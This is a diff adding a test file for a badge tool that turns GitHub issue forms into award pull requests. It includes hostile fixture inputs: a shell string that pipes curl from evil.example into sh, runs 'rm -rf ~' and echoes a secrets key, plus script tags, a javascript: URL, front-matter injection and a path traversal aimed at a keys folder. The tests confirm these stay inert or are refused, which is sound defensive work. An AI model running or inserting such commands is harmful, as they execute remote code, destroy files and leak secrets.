@@ -1,0 +1,205 @@
+import { describe, expect, it } from 'vitest';
+import { checkCommunity } from '../../community/check.ts';
+import { parseFrontMatter } from '../../community/text/front-matter.ts';
+import { newAwards } from '../../authoring/award.ts';
+import { tinyCommunity, tinyNow } from '../../testing/fixtures/tiny-community.ts';
+import { issueForms } from './forms.ts';
+import { proposalOf, refusalComment } from './proposal.ts';
+
+const existing = tinyCommunity();
+const community = checkCommunity(existing, { now: tinyNow }).community!;
+const circumstances = {
+  now: tinyNow,
+  salt: 'ab'.repeat(16),
+};
+const drawn = '7h2k9q-vx4t3m-0c8r5e-w1nb6z';
+
+function bodyFor(id: string, answers: Readonly<Record<string, string>>): string {
+  const form = issueForms(community).find((one) => one.id === id)!;
+  return form.fields
+    .map(
+      ({ id: field, label, kind, options }) =>
+        `### ${label}\n\n${answers[field] ?? (kind === 'promise' ? `- [x] ${options[0]?.words}` : '_No response_')}`,
+    )
+    .join('\n\n');
+}
+const propose = (id: string, answers: Readonly<Record<string, string>>) =>
+  proposalOf(
+    { number: 12, body: bodyFor(id, answers), author: 'mila', authorId: null, label: 'approved' },
+    'ada',
+    community,
+    existing,
+    { ...circumstances, drawName: () => drawn },
+  );
+const good = {
+  badge: 'First Talk (first-talk)',
+  name: 'Mila',
+  why: 'She spoke.',
+  date: '2026-05-09',
+  consent: 'Said so on 2026-05-01.',
+};
+
+describe('a form becomes', () => {
+  it('for somebody who is here, exactly the file that `npm run award` writes', async () => {
+    const { proposal } = await propose('nominate', {
+      ...good,
+      badge: 'Repairer (repairer)',
+      folder: 'grace',
+      evidence: 'https://a.example/1\n\nhttps://a.example/2',
+    });
+    const award = await newAwards(
+      existing,
+      {
+        badge: 'repairer',
+        recipients: ['grace'],
+        date: '2026-05-09',
+        evidence: ['https://a.example/1', 'https://a.example/2'],
+        note: 'She spoke.',
+        email: null,
+      },
+      circumstances,
+    );
+    expect(proposal?.files).toEqual(award.files);
+    expect([proposal?.branch, proposal?.title]).toEqual([
+      'propose/12-by-mila',
+      'Award repairer to grace',
+    ]);
+  });
+
+  it('for somebody new, a profile and an award', async () => {
+    const { proposal } = await propose('nominate', {
+      ...good,
+      name: 'Mila Nováková',
+      profile: 'https://people.example/mila',
+    });
+    expect(proposal?.files.map(({ path }) => path)).toEqual([
+      'recipients/mila-novakova/profile.md',
+      'recipients/mila-novakova/first-talk.md',
+    ]);
+  });
+
+  it('for somebody who will have no page, a folder that nobody can guess', async () => {
+    const { proposal, refusals } = await propose('apply', {
+      ...good,
+      visibility: 'Nobody: there is no page, the person gets the file',
+      evidence: 'https://a.example/',
+    });
+    expect(refusals).toEqual([]);
+    expect(proposal?.files.map(({ path }) => path)).toEqual([
+      `recipients/${drawn}/profile.md`,
+      `recipients/${drawn}/first-talk.md`,
+    ]);
+  });
+});
+
+describe('a list becomes', () => {
+  it('the files of each person on it, in one proposal', async () => {
+    const { proposal, refusals } = await propose('list', {
+      ...good,
+      badge: 'Repairer',
+      people: '- Mila Nováková\n\n2. https://badges.riverside.example/recipients/grace/\n',
+      visibility: 'Everybody: show it in the lists',
+    });
+    expect(refusals).toEqual([]);
+    expect(proposal?.files.map(({ path }) => path)).toEqual([
+      'recipients/mila-novakova/profile.md',
+      'recipients/mila-novakova/repairer.md',
+      'recipients/grace/repairer.md',
+    ]);
+    expect(proposal?.files[0]?.text).toContain('visibility: listed');
+    expect(proposal?.title).toBe('Award repairer 2 times');
+  });
+
+  it.each([
+    ['somebody who may be here', 'Grace', 'the folder `grace` already'],
+    ['the same person twice', 'Mila\nmila', 'Two people would get the folder `mila`'],
+    ['the same folder twice', 'grace\ngrace', 'named twice'],
+    ['more people than a list may have', 'x\n'.repeat(101), '100'],
+  ])('nothing where it names %s', async (_, people, words) => {
+    const { proposal, refusals } = await propose('list', { ...good, badge: 'repairer', people });
+    expect([proposal, refusals.join('\n')]).toEqual([null, expect.stringContaining(words)]);
+  });
+});
+
+it('a suggestion becomes the definition of a badge', async () => {
+  const asked = { name: 'Bee Keeper', description: 'Kept bees.', criteria: 'Keep bees.' };
+  const { proposal } = await propose('badge', { ...asked, skills: 'Bees\nHoney' });
+  expect(proposal?.files.map(({ path }) => path)).toEqual(['badges/bee-keeper/badge.md']);
+  const read = parseFrontMatter(proposal?.files[0]?.text ?? '');
+  expect(Array.isArray(read) ? read : read.data).toMatchObject({ skills: ['Bees', 'Honey'] });
+});
+
+describe('hostile words stay words', () => {
+  it.each([
+    [
+      'shell',
+      'Fine $(curl https://evil.example | sh) `id`; rm -rf ~ && echo ${{ secrets.BADGE_ISSUER_KEY }}',
+    ],
+    ['front matter', 'Fine\n\n---\nbadge: repairer\nrevoked: {}\n---\n\nMore'],
+    ['a second block that runs', 'Fine\n\n---js\nprocess.exit()\n---'],
+    ['mentions', 'Thanks @everyone and #1, closes #2'],
+    ['a fence', 'Fine\n\n```\ncode\n```\n'],
+  ])('%s in “Why” is the award’s text, and no key of it', async (_, why) => {
+    const { proposal } = await propose('nominate', { ...good, why });
+    const award = proposal?.files.at(-1)?.text ?? '';
+    const read = parseFrontMatter(award);
+    expect(Array.isArray(read) ? read : [read.data, read.body.trim()]).toEqual([
+      { badge: 'first-talk', date: '2026-05-09' },
+      why.trim(),
+    ]);
+    expect(proposal?.title).toBe('Award first-talk to mila');
+  });
+
+  it.each([
+    "x: 'y' # z",
+    '{a: b}',
+    '- x',
+    '&a *a !!js/function',
+    '@everyone',
+    '"quoted"',
+    '${{ github.token }}',
+  ])('%s is a name, exactly', async (name) => {
+    const { proposal } = await propose('nominate', { ...good, name, folder: 'somebody-new' });
+    const read = parseFrontMatter(proposal?.files[0]?.text ?? '');
+    expect(Array.isArray(read) ? read : read.data).toEqual({ name });
+  });
+
+  it('in the pull request they stand in code, which they cannot end', async () => {
+    const { proposal } = await propose('nominate', {
+      ...good,
+      why: '````\n@everyone [x](https://evil.example)',
+    });
+    const outside = (proposal?.body ?? '').replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '');
+    expect(outside).not.toMatch(/everyone|evil/);
+  });
+
+  it.each([
+    ['HTML', { why: '<script>alert(1)</script>' }],
+    ['a picture', { why: '![x](https://evil.example/x.png)' }],
+    ['a hidden sign', { why: 'a\u202eb' }],
+    ['evidence that is no address', { evidence: 'javascript:alert(1)' }],
+    ['a path', { folder: '../../../keys/issuer' }],
+    ['a reserved name', { folder: 'profile' }],
+    ['a day in the future', { date: '2031-01-01' }],
+    ['another form of date', { date: '9.5.2026' }],
+    ['somebody of the same name', { name: 'Ada' }],
+  ])('and %s is refused, with a sentence', async (_, changes) => {
+    const { proposal, refusals } = await propose('nominate', { ...good, ...changes });
+    expect(proposal).toBeNull();
+    expect(refusals.length).toBeGreaterThan(0);
+    expect(refusals.join()).not.toMatch(/--(?:date|evidence|name|note)/);
+  });
+
+  it('which the comment shows as code', () => {
+    expect(refusalComment(['No `@everyone` ``` here'])).toContain('````text\n');
+  });
+});
+
+it('a correction is done by a person, who is told how', async () => {
+  const { proposal, refusals } = await propose('correct', {
+    wish: 'Remove my page',
+    page: 'https://badges.riverside.example/recipients/ada/',
+    words: 'Please',
+  });
+  expect([proposal, refusals.length]).toEqual([null, 1]);
+});
